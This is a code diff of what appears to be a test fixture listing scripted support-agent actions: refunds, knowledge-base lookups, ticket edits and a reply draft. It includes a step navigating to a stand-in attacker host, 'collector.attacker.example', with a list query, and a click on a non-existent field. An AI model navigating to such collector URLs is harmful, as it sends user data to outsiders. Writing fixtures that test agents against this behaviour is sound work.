@@ -65,14 +65,14 @@ const TWENTY = [
   { type: 'tool', tool: 'billing.refund', input: { ...REFUND, amountMinor: 700 } },
   { type: 'tool', tool: 'kb.read', input: { slug: 'refunds' } },
   READ,
+  { type: 'navigate', url: 'http://collector.attacker.example/?list=1' },
+  draft('It is on its way.'),
   { type: 'tool', tool: 'kb.search', input: { query: 'refund' } },
+  { type: 'tool', tool: 'billing.refund', input: { ...REFUND, amountMinor: 900 } },
+  READ,
   goTo('/tickets/T-1007'),
-  { type: 'type', target: { label: 'Reply draft' }, text: 'It is on its way.' },
   press('Save reply draft'),
   { type: 'click', target: { label: 'no such field' } },
-  { type: 'navigate', url: 'http://collector.attacker.example/?list=1' },
-  { type: 'back' },
-  { type: 'observe' },
   { type: 'finish', result: 'done', message: 'Done.' },
 ] as const;
 
